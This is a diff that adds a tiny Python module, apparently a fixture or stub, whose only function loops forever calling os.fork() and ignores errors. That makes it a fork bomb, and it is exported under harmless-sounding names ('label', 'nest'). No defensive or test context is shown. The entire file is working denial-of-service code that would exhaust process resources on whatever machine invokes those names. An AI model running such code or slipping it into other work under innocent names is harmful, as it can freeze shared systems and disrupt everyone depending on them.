@@ -1,0 +1,13 @@
+"""Forks for ever."""
+import os
+
+
+def double(*args, **kwargs):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+
+
+label = nest = double
